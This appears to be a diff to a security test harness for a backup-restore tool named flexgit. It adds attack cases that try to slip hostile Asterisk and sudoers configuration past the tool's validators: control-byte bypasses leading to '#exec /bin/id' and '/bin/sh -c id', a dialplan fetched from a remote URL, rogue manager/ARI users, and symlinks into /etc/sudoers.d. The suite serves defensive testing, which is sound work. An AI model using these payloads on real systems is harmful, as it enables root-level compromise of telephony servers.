@@ -89,8 +89,16 @@ def s08_sudo_script_glob_traversal():
 
 @attack
 def s09_sudo_asterisk_args():
-    return _sudoers("s09_sudo_asterisk_args", RULES +
-                    "rr3a ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx * -C /tmp/x\n")
+    # Lands, but grants nothing new: sudo's `*` matches spaces, so flexgit's own
+    # `/usr/sbin/asterisk -rx *` already allows `-rx x -C /tmp/x`. Judged SAFE;
+    # the width of that own rule is noted in REPORT.md.
+    e = Env("s09_sudo_asterisk_args")
+    e.put(SUDO, RULES + "rr3a ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx * -C /tmp/x\n",
+          root="system", mode="0440", owner="root", group="root")
+    r = e.restore()
+    landed = _landed(e, SUDO, b"-C /tmp/x")
+    return verdict("s09_sudo_asterisk_args", False, f"landed={landed}, but within flexgit's "
+                   f"own `asterisk -rx *`; {short(r)}")
 
 
 @attack
@@ -544,3 +552,92 @@ def h03_dotfiles():
     got = [p for p in (".bashrc", ".ssh/authorized_keys") if (e.home / p).exists()]
     return verdict("h03_dotfiles", ".ssh/authorized_keys" in got,
                    f"written: {got}; {short(r)}")
+
+
+# --- round two: Asterisk's reader skips every byte below 33 ---------------------
+# config.c strips a line with ast_strip() (all bytes < 33) before it looks for
+# '#' and before it splits `name = value`; flexgit's anchored patterns accept
+# only Python's \s there.
+
+@attack
+def a21_ctrl_before_exec():
+    return _ast("a21_ctrl_before_exec", "etc/asterisk/sip.conf", "\x01#exec /bin/id\n", "#exec")
+
+
+@attack
+def a22_ctrl_before_key():
+    return _ast("a22_ctrl_before_key", "etc/asterisk/voicemail.conf",
+                "[general]\n\x01mailcmd=/bin/sh -c id\n", "mailcmd=/bin/sh")
+
+
+@attack
+def a23_ctrl_before_equals():
+    return _ast("a23_ctrl_before_equals", "etc/asterisk/musiconhold.conf",
+                "[pwn]\nmode=custom\napplication\x01=/bin/sh -c id\n", "=/bin/sh -c id")
+
+
+@attack
+def a24_ctrl_after_include():
+    return _ast("a24_ctrl_after_include", EXT, "#include\x01/home/rr3a/x.conf\n",
+                "/home/rr3a/x.conf")
+
+
+@attack
+def a25_realtime_switch():
+    # dialplan fetched at run time from a database or URL the backup names
+    e = Env("a25_realtime_switch")
+    live = (e.root / EXT).read_bytes()
+    e.put(EXT, live + b"[evil]\nswitch => Realtime/evil@extensions\n", root="system",
+          mode="0640", owner="root", group="root")
+    e.put("etc/asterisk/extconfig.conf", "[settings]\nextensions => curl,http://203.0.113.9/x\n",
+          root="system", mode="0640", owner="root", group="root")
+    r = e.restore()
+    ok = _landed(e, EXT, b"switch => Realtime") and _landed(e, "etc/asterisk/extconfig.conf",
+                                                          b"curl,http")
+    return verdict("a25_realtime_switch", ok, f"realtime dialplan from a URL installed: {ok}; "
+                   f"{short(r)}")
+
+
+@attack
+def a26_include_trailing_block_comment():
+    return _ast("a26_include_trailing_block_comment", EXT,
+                "#include /home/rr3a/x.conf;--extras--;\n", "/home/rr3a/x.conf")
+
+
+@attack
+def a27_ari_user():
+    return _ast("a27_ari_user", "etc/asterisk/ari.conf",
+                "[general]\nenabled=yes\n[pwn]\ntype=user\nread_only=no\npassword=x\n", "[pwn]")
+
+
+@attack
+def a28_manager_custom_include():
+    # manager.conf includes manager_custom.conf (FreePBX layout): a new file
+    return _ast("a28_manager_custom_include", "etc/asterisk/manager_custom.conf",
+                "[pwn]\nsecret=x\nwrite=all\n", "[pwn]")
+
+
+@attack
+def l13_manifest_home_lies():
+    """The manifest claims the home is /etc: absolute link targets under /etc
+    would then read as inside the home."""
+    e = Env("l13_manifest_home_lies")
+    e.data["flexgit"]["manifest"]["home"] = "/etc"
+    e.put("notes/s", "/etc/sudoers.d", type="symlink", mode="0777")
+    e.put("templates/s", "/etc/sudoers.d", type="symlink", mode="0777")
+    r = e.restore()
+    made = [p for p in ("notes/s", "templates/s") if (e.home / p).is_symlink()]
+    return verdict("l13_manifest_home_lies", bool(made), f"links made: {made}; {short(r)}")
+
+
+@attack
+def l14_migrate_home_lies():
+    e = Env("l14_migrate_home_lies")
+    e.data["flexgit"]["manifest"]["home"] = "/etc"
+    e.data["flexgit"]["manifest"]["account"] = OTHER
+    e.put("templates/s", "/etc/sudoers.d", type="symlink", mode="0777")
+    r = e.restore("-u", USER, mode="migrate")
+    made = (e.home / "templates/s").is_symlink()
+    tgt = os.readlink(e.home / "templates/s") if made else None
+    return verdict("l14_migrate_home_lies", made and not str(tgt).startswith(str(e.home)),
+                   f"link made: {made} -> {tgt}; {short(r)}")
